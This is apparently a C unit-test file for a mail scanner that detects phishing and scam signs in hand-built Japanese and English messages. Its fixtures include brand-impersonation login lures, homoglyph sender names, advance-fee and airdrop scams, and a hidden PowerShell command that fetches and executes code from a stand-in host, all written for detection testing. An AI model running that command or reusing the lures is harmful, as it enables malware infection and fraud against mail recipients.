/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Signs of mails, on messages built by hand: each row says what must be found, what must not, and how bad it is. */
#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

#include "judge/judge.h"
#include "rules/rules.h"

enum { TEST_ARENA_BYTES = 4 * 1024 * 1024, ANY = -1, CHINA = 480, JAPAN = 540, LINKS_MAX = 7 };

static struct rules *rules;

static int load_rules(void **state)
{
	char path[256];
	struct rules_complaint c;
	snprintf(path, sizeof(path), "%s/rules", getenv("SONAE_SOURCE"));
	if (rules_load(path, NULL, &rules, &c) < 0)
		fail_msg("%s:%u: %s", c.file, c.line, c.text);
	return 0;
}

static int free_rules(void **state)
{
	rules_free(rules);
	return 0;
}

struct sign {
	const char *what;
	const char *name, *from, *reply, *subject, *body;
	const char *links[LINKS_MAX];
	const char *mailer, *id, *list, *locked; /* locked: name of an attachment with a password */
	int zone;
	const char *finds, *finds_not;
	int verdict;
};

static bool has(const struct verdict *v, const char *id)
{
	for (size_t i = 0; i < v->findings.n; i++)
		if (strcmp(v->findings.at[i].id, id) == 0)
			return true;
	return false;
}

static void add_mailbox(struct document *d, struct arena *a, enum mailbox_role role, const char *part, const char *name,
                        const char *address)
{
	struct str text = arena_printf(a, "%s <%s>", name, address);
	int index = document_add_part(d, a, PART_HEADER, str_of(part), text);
	*document_add_mailbox(d, a) = (struct mailbox){.role = role,
	                                               .name = str_of(name),
	                                               .address = str_of(address),
	                                               .part = (uint32_t) index,
	                                               .end = (uint32_t) text.n};
}

static void add_header(struct document *d, struct arena *a, const char *name, const char *text)
{
	if (text)
		document_add_part(d, a, PART_HEADER, str_of(name), str_of(text));
}

static void check(const struct sign *s)
{
	CLEANUP(arena_freep) struct arena *a = arena_new(TEST_ARENA_BYTES);
	struct document d = document_make(INPUT_MAIL);
	struct verdict v;
	d.has_headers = true;
	d.zone_minutes = s->zone;
	add_mailbox(&d, a, MAILBOX_FROM, "header:From", s->name, s->from);
	if (s->reply)
		add_mailbox(&d, a, MAILBOX_REPLY_TO, "header:Reply-To", "", s->reply);
	add_header(&d, a, "header:Date", "Thu, 9 Jul 2026 00:50:15");
	add_header(&d, a, "header:X-Mailer", s->mailer);
	add_header(&d, a, "header:Message-ID", s->id);
	add_header(&d, a, "header:List-Id", s->list);
	d.mailer = str_of(s->mailer ? s->mailer : "");
	document_add_part(&d, a, PART_SUBJECT, STR("subject"), str_of(s->subject));
	uint32_t body = (uint32_t) document_add_part(&d, a, PART_BODY, STR("body"), str_of(s->body));
	for (size_t i = 0; i < LINKS_MAX && s->links[i]; i++)
		*document_add_link(&d, a) = (struct link){.text = STR("here"),
		                                          .url = str_of(s->links[i]),
		                                          .part = body,
		                                          .end = (uint32_t) strlen(s->body),
		                                          .flags = LINK_HTML};
	if (s->locked) {
		int part = document_add_part(&d, a, PART_ATTACHMENT, STR("attachment:1"), str_of(s->locked));
		*document_add_attachment(&d, a) = (struct attachment){.name = str_of(s->locked),
		                                                      .declared = STR("application/zip"),
		                                                      .detected = STR("application/zip"),
		                                                      .part = (uint32_t) part,
		                                                      .inside = PART_NONE,
		                                                      .flags = ATTACHMENT_ENCRYPTED};
	}
	assert_int_equal(document_check(&d), 0);
	assert_int_equal(judge_document(&d, rules, NULL, a, &v), 0);
	if (s->finds && !has(&v, s->finds))
		fail_msg("%s: lacks %s", s->what, s->finds);
	if (s->finds_not && has(&v, s->finds_not))
		fail_msg("%s: has %s", s->what, s->finds_not);
	if (s->verdict != ANY && (int) v.kind != s->verdict)
		fail_msg("%s: is %s (%.2f)", s->what, verdict_word(v.kind), v.score);
}

static const char login[] =
        "ご本人様の利用か確認できないため、カードの利用を制限しました。下記よりログインして確認してください。";

static void forged_senders(void **state)
{
	static const struct sign signs[] = {
	        {.what = "the brand's address, made with a desk program in China's time",
	         .name = "三井住友カード",
	         .from = "mail@contact.vpass.ne.jp",
	         .subject = "【重要】三井住友カード ご利用確認のお願い",
	         .body = login,
	         .mailer = "Foxmail 6, 13, 102, 15 [cn]",
	         .zone = CHINA,
	         .finds = "forged-by-craft",
	         .verdict = VERDICT_DANGER},
	        {.what = "an identity without a host",
	         .name = "Amazon",
	         .from = "info@amazon.co.jp",
	         .subject = "Amazonアカウント",
	         .body = login,
	         .id = "<008c83647a34$94af5b0f@sqngjpc>",
	         .zone = JAPAN,
	         .finds = "forged-by-craft",
	         .verdict = ANY},
	        {.what = "the brand's own notice",
	         .name = "三井住友カード",
	         .from = "mail@contact.vpass.ne.jp",
	         .subject = "三井住友カード ご利用のお知らせ",
	         .body = login,
	         .id = "<20260709.1@contact.vpass.ne.jp>",
	         .zone = JAPAN,
	         .finds_not = "forged-by-craft",
	         .verdict = ANY},
	        {.what = "somebody of the brand writes by hand",
	         .name = "佐藤（三井住友カード）",
	         .from = "sato@smbc-card.com",
	         .subject = "打ち合わせの件",
	         .body = "三井住友カードの佐藤です。資料を送ります。",
	         .mailer = "Microsoft Outlook 16.0",
	         .zone = JAPAN,
	         .finds_not = "forged-by-craft",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "an address as display name does not make the name the sender's own",
	         .name = "admin-eki-net@nzxzyy.com",
	         .from = "admin-eki-net@nzxzyy.com",
	         .subject = "【重要】えきねっとアカウントの自動退会処理について",
	         .body = "「えきねっと」をご利用いただきありがとうございます。自動的に退会処理いたします。ログインはこ"
	                 "ちら",
	         .zone = JAPAN,
	         .finds = "claim-display-name",
	         .verdict = ANY},
	};
	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
		check(&signs[i]);
}

static void misspelt_names(void **state)
{
	static const struct sign signs[] = {
	        {.what = "two letters swapped",
	         .name = "Aamzon.co.jp",
	         .from = "info@kkqzw.example",
	         .subject = "お支払いのお知らせ",
	         .body = "ご確認ください。",
	         .finds = "misspelt-name",
	         .verdict = ANY},
	        {.what = "Cyrillic letters",
	         .name = "PayРay",
	         .from = "info@kkqzw.example",
	         .subject = "お知らせ",
	         .body = login,
	         .finds = "claim-display-name",
	         .verdict = ANY},
	        {.what = "rn for m",
	         .name = "Arnazon Japan",
	         .from = "info@kkqzw.example",
	         .subject = "お知らせ",
	         .body = login,
	         .finds = "claim-display-name",
	         .verdict = VERDICT_DANGER},
	        {.what = "a name without its hyphen",
	         .name = "Ekinet",
	         .from = "info@eki-net.com",
	         .subject = "お知らせ",
	         .body = login,
	         .zone = JAPAN,
	         .finds_not = "misspelt-name",
	         .verdict = ANY},
	        {.what = "a person",
	         .name = "Toyoda Taro",
	         .from = "taro@maker.example",
	         .subject = "打ち合わせ",
	         .body = "お世話になっております。資料を送ります。",
	         .finds_not = "misspelt-name",
	         .verdict = VERDICT_NOTHING_FOUND},
	};
	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
		check(&signs[i]);
}

static void writing(void **state)
{
	static const struct sign signs[] = {
	        {.what = "letters for mathematics",
	         .name = "Canvas",
	         .from = "a@canvas.example",
	         .subject = "𝐘𝐎𝐔𝐑 𝐏𝐇𝐎𝐓𝐎𝐒",
	         .body = "Hello",
	         .finds = "styled-letters",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "one ornament",
	         .name = "Canvas",
	         .from = "a@canvas.example",
	         .subject = "Chapter Ⓐ of 𝐱",
	         .body = "Hello",
	         .finds_not = "styled-letters",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "invisible characters inside English words",
	         .name = "a",
	         .from = "a@b.example",
	         .subject = "Uni\u200Cswap",
	         .body = "Hello",
	         .finds = "invisible-characters",
	         .verdict = ANY},
	        {.what = "padding of a newsletter",
	         .name = "a",
	         .from = "a@b.example",
	         .subject = "News",
	         .body = "Hello \u200C \u200C \u200C world, 5 μm of Ω",
	         .finds_not = "invisible-characters",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "a Greek letter in a name",
	         .name = "Unisωap υniswap",
	         .from = "a@b.example",
	         .subject = "News",
	         .body = "Hello",
	         .finds = "mixed-script-word",
	         .verdict = ANY},
	        {.what = "a word of measure",
	         .name = "a",
	         .from = "a@b.example",
	         .subject = "5 μm, kΩ",
	         .body = "Hello",
	         .finds_not = "mixed-script-word",
	         .verdict = VERDICT_NOTHING_FOUND},
	};
	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
		check(&signs[i]);
}

static void schemes(void **state)
{
	static const struct sign signs[] = {
	        {.what = "a donation from a stranger",
	         .name = "Richard",
	         .from = "info@charity.example",
	         .reply = "richard@lawyer.example",
	         .subject = "Dear beneficiary",
	         .body = "You have been selected to receive a donation of $20,000,000. Reply to me.",
	         .finds = "advance-fee",
	         .verdict = ANY},
	        {.what = "3 億円を差し上げる",
	         .name = "佐々木",
	         .from = "sasaki@gmail.com",
	         .subject = "ご連絡",
	         .body = "余命わずかのため、3億円を差し上げたくご連絡しました。",
	         .finds = "advance-fee",
	         .verdict = ANY},
	        {.what = "tokens for everybody",
	         .name = "Pyth Network",
	         .from = "sales@cars.example",
	         .subject = "Airdrop: your tokens are ready",
	         .body = "Claim now",
	         .links = {"https://pyth.example/claim"},
	         .finds = "investment",
	         .verdict = VERDICT_DANGER},
	        {.what = "a grant of the town",
	         .name = "みなと町",
	         .from = "info@minato-town.example",
	         .subject = "支援金のご案内",
	         .body = "お客様各位 事業者支援金は最大300万円です。寄付金100万円の控除もあります。",
	         .finds_not = "advance-fee",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "a company reports its figures",
	         .name = "IR",
	         .from = "ir@maker.example",
	         .subject = "決算のお知らせ",
	         .body = "当期の売上高は3億円でした。寄付金は計上していません。",
	         .finds_not = "advance-fee",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "easy work, go on in LINE",
	         .name = "採用",
	         .from = "job@work.example",
	         .subject = "在宅勤務に適したアルバイト",
	         .body = "オンラインアルバイトです。応募するLINE(ID)：a9585",
	         .finds = "job-channel",
	         .verdict = ANY},
	        {.what = "an honest job",
	         .name = "採用",
	         .from = "job@work.example",
	         .subject = "アルバイト募集",
	         .body = "在宅ワークの説明会を行います。お電話ください。",
	         .finds_not = "job-channel",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "a newsletter full of its own links",
	         .name = "Shop",
	         .from = "news@shop.example",
	         .subject = "セール",
	         .body = "抽選で当たるプレゼント",
	         .links = {"https://shop.example/1", "https://shop.example/2", "https://shop.example/3",
	                   "https://shop.example/4", "https://shop.example/5", "https://friend.example/"},
	         .finds_not = "lure-with-link",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "the same lure elsewhere",
	         .name = "Shop",
	         .from = "news@shop.example",
	         .subject = "セール",
	         .body = "抽選で当たるプレゼント",
	         .links = {"https://friend.example/"},
	         .finds = "lure-with-link",
	         .verdict = ANY},
	        {.what = "a list that has no domain is none",
	         .name = "Shop",
	         .from = "news@shop.example",
	         .subject = "抽選で当たる",
	         .body = "抽選で当たるプレゼント",
	         .links = {"https://friend.example/"},
	         .list = "<2y380BG80>",
	         .finds = "links-elsewhere",
	         .verdict = ANY},
	        {.what = "a true list",
	         .name = "Shop",
	         .from = "news@shop.example",
	         .subject = "抽選で当たる",
	         .body = "抽選で当たるプレゼント",
	         .links = {"https://friend.example/"},
	         .list = "Developers <dev.lists.example.org>",
	         .finds_not = "links-elsewhere",
	         .verdict = ANY},
	};
	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
		check(&signs[i]);
}

static void places(void **state)
{
	static const struct sign signs[] = {
	        {.what = "anybody's files",
	         .name = "a",
	         .from = "a@b.example",
	         .subject = "写真",
	         .body = "どうぞ",
	         .links = {"https://storage.googleapis.com/educatione/x.html"},
	         .finds = "link-free-host",
	         .verdict = ANY},
	        {.what = "anybody's forms",
	         .name = "a",
	         .from = "a@b.example",
	         .subject = "写真",
	         .body = "どうぞ",
	         .links = {"https://docs.google.com/forms/d/e/1FAIpQLS/viewform"},
	         .finds = "link-free-host",
	         .verdict = ANY},
	        {.what = "its owner's own pages",
	         .name = "a",
	         .from = "a@b.example",
	         .subject = "写真",
	         .body = "どうぞ",
	         .links = {"https://www.dropbox.com/plans", "https://docs.google.com/settings/x"},
	         .finds_not = "link-free-host",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "nothing but a link",
	         .name = "a",
	         .from = "a@gmail.com",
	         .subject = "",
	         .body = "見て",
	         .links = {"https://elsewhere.example/x"},
	         .finds = "link-only",
	         .verdict = ANY},
	        {.what = "a link with a reason",
	         .name = "a",
	         .from = "a@gmail.com",
	         .subject = "",
	         .body = "昨日の会議でお話しした資料を、こちらに置きました。ご都合のよいときにご覧ください。よろしくお"
	                 "願いします。",
	         .links = {"https://elsewhere.example/x"},
	         .finds_not = "link-only",
	         .verdict = ANY},
	        {.what = "China's time from China",
	         .name = "王",
	         .from = "wang@neji-maker.com.cn",
	         .subject = "納期の件",
	         .body = "お世話になっております。納期をお知らせします。",
	         .zone = CHINA,
	         .mailer = "Foxmail 7.2",
	         .finds_not = "odd-zone",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "China's time from Japan",
	         .name = "王",
	         .from = "wang@neji-maker.co.jp",
	         .subject = "納期の件",
	         .body = "お世話になっております。納期をお知らせします。",
	         .zone = CHINA,
	         .finds = "odd-zone",
	         .verdict = VERDICT_NOTHING_FOUND},
	};
	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
		check(&signs[i]);
}

static void locks_and_commands(void **state)
{
	static const struct sign signs[] = {
	        {.what = "the key beside the lock",
	         .name = "経理",
	         .from = "keiri@trade.example",
	         .subject = "請求書",
	         .body = "添付をご確認ください。\n解凍パスワード：ab12",
	         .locked = "請求書.zip",
	         .finds = "archive-with-password",
	         .verdict = VERDICT_DOUBTFUL},
	        {.what = "the key comes in another mail",
	         .name = "経理",
	         .from = "keiri@trade.example",
	         .subject = "請求書",
	         .body = "添付をご確認ください。パスワードは別のメールでお送りします。",
	         .locked = "請求書.zip",
	         .finds_not = "archive-with-password",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "a key alone",
	         .name = "Web会議",
	         .from = "room@meet.example",
	         .subject = "会議のご案内",
	         .body = "会議室 55 パスワード：ab12",
	         .finds_not = "archive-with-password",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "prove that you are human by pasting",
	         .name = "会議",
	         .from = "room@meet.example",
	         .subject = "参加の確認",
	         .body = "ロボットではないことの確認のため、Windowsキー + R を押し、Ctrl + V で貼り付けてください。",
	         .finds = "command-lure",
	         .verdict = VERDICT_DANGER},
	        {.what = "a command that fetches a program",
	         .name = "IT",
	         .from = "it@fix.example",
	         .subject = "update",
	         .body = "Open PowerShell and run: powershell -w hidden -c \"iwr http://a.example/p | iex\"",
	         .finds = "command-lure",
	         .verdict = VERDICT_DANGER},
	        {.what = "the way into a shared folder",
	         .name = "情報システム",
	         .from = "it@own.example",
	         .subject = "共有フォルダー",
	         .body = "Windowsキー + R を押して、フォルダーの名前を入力してください。",
	         .finds_not = "asks-command",
	         .verdict = VERDICT_NOTHING_FOUND},
	        {.what = "profits in a group, from a free address",
	         .name = "森田",
	         .from = "morita@gmail.com",
	         .subject = "はじめまして",
	         .body = "推奨銘柄を無料のLINEグループでお知らせします。LINEを追加してください。",
	         .finds = "investment-channel",
	         .verdict = VERDICT_DOUBTFUL},
	        {.what = "a broker's newsletter",
	         .name = "証券",
	         .from = "news@broker.example",
	         .subject = "投資講座のお知らせ",
	         .body = "無料の投資講座を開きます。公式LINEの友だち登録でもお知らせします。",
	         .finds_not = "investment-channel",
	         .verdict = VERDICT_NOTHING_FOUND},
	};
	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
		check(&signs[i]);
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
	        cmocka_unit_test(forged_senders), cmocka_unit_test(misspelt_names),
	        cmocka_unit_test(writing),        cmocka_unit_test(schemes),
	        cmocka_unit_test(places),         cmocka_unit_test(locks_and_commands),
	};
	return cmocka_run_group_tests(tests, load_rules, free_rules);
}
